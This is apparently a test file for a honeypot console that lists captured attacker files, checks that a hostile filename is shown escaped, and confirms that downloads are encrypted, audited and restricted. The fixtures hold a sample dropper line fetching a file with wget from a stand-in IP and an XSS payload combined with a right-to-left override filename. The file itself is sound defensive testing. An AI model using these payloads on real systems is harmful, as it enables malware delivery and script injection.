import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { type ConsoleLab, openConsole } from '../support/console/open.ts';

const script = '#!/bin/sh\nwget http://203.0.113.9/x\n';
const sha256 = createHash('sha256').update(script).digest('hex');
const hostile = '<img src=x onerror=alert(1)>\u202Egpj';

const visit = (session: string) => ({
  event_id: `in-${session}`,
  service: 'ssh',
  source_ip: '203.0.113.9',
  activity: 'command',
  payload: 'uname -a',
  timestamp: new Date(Date.now() - 60_000).toISOString(),
  extra: { session },
});

async function keep(lab: ConsoleLab, session: string, name: string, bytes = script): Promise<void> {
  const query = new URLSearchParams({ session, ...(name === '' ? {} : { name }) });
  const { status } = await fetch(`${lab.server.address}/api/captures?${query}`, {
    method: 'POST',
    headers: { 'x-node-key': lab.node.key },
    body: bytes,
  });
  assert.equal(status, 200);
}

async function openSession(
  lab: ConsoleLab,
  name: string,
  options?: Parameters<ConsoleLab['open']>[1],
): Promise<Page> {
  return lab.open(`/sessions/${encodeURIComponent(`${lab.node.id}~${name}`)}`, options);
}

describe('the captured files of a session', () => {
  it('are listed with what is known of them, and downloaded as an encrypted archive', async (t) => {
    const lab = await openConsole(t, { events: ['s1', 's2', 's3'].map(visit) });
    await keep(lab, 's1', hostile);
    await keep(lab, 's2', 'x.sh');
    await keep(lab, 's1', '', 'other');
    const page = await openSession(lab, 's1');
    const files = page.getByRole('region', { name: 'Captured files' });
    await files.waitFor();
    const items = files.getByRole('list').first().locator('> li');
    assert.equal(await items.count(), 2);
    const file = items.filter({ hasText: sha256 });
    const said = (await file.textContent()) ?? '';
    assert.ok(said.includes('<img src=x onerror=alert(1)>\\u202egpj'), said);
    assert.ok(said.includes('x.sh') && said.includes(`${script.length} B`), said);
    assert.ok(said.includes('Script for sh') && said.includes('captured 2 times'), said);
    assert.match(
      (await items.filter({ hasNotText: sha256 }).textContent()) ?? '',
      /no name.*no other session/,
    );
    assert.match((await files.textContent()) ?? '', /password is infected\./);
    await lab.check(page);

    const saving = page.waitForEvent('download');
    await file.getByRole('button', { name: `Download archive of ${sha256}` }).click();
    const saved = await saving;
    assert.equal(saved.suggestedFilename(), `${sha256}.zip`);
    const zip = await readFile(await saved.path());
    assert.equal(zip.subarray(0, 4).toString('latin1'), 'PK\x03\x04');
    assert.equal((zip[6] ?? 0) & 1, 1, 'the archive is not encrypted');
    assert.ok(!zip.includes(script));
    const audit = await lab.server.call<{ items: { kind: string }[] }>('GET', '/api/audit', {
      headers: lab.user.headers,
    });
    assert.equal(audit.body.items[0]?.kind, 'Captured file downloaded');

    await file.getByRole('link', { name: 's2 on ssh-dmz-1' }).click();
    await page.waitForURL(/~s2/);
    await files.getByRole('link', { name: 's1 on ssh-dmz-1' }).waitFor();
    assert.equal(await items.count(), 1);

    // A session without files says nothing of them.
    const none = await openSession(lab, 's3');
    await none.getByRole('heading', { name: 'Transcript' }).waitFor();
    assert.equal(await none.getByText('Captured files').count(), 0);
  });

  it('stay on the server for who may not see secrets, also in German and on a phone', async (t) => {
    const lab = await openConsole(t, { events: [visit('s1')] });
    await keep(lab, 's1', 'x.sh');
    const page = await openSession(lab, 's1', { width: 390, height: 844, theme: 'dark', locale: 'de-DE' });
    // Whoever signs in may: the server's answer to a right that was taken away.
    await page.route('**/api/captures/*/archive', (route) =>
      route.fulfill({
        status: 403,
        contentType: 'application/problem+json',
        body: JSON.stringify({ title: 'Forbidden', status: 403, detail: 'no', code: 'forbidden' }),
      }),
    );
    const files = page.getByRole('region', { name: 'Erfasste Dateien' });
    await files.waitFor();
    const wide = await page.evaluate('document.documentElement.scrollWidth - window.innerWidth');
    assert.ok(Number(wide) <= 0, `scrolls sideways by ${wide} px`);
    const button = files.getByRole('button', { name: /Archiv herunterladen/ });
    await button.click();
    await files.getByText('Zum Herunterladen braucht es das Recht, Passwörter zu zeigen.').waitFor();
    assert.equal(await button.count(), 0);
    await lab.check(page, { expected: /403/ });
  });
});
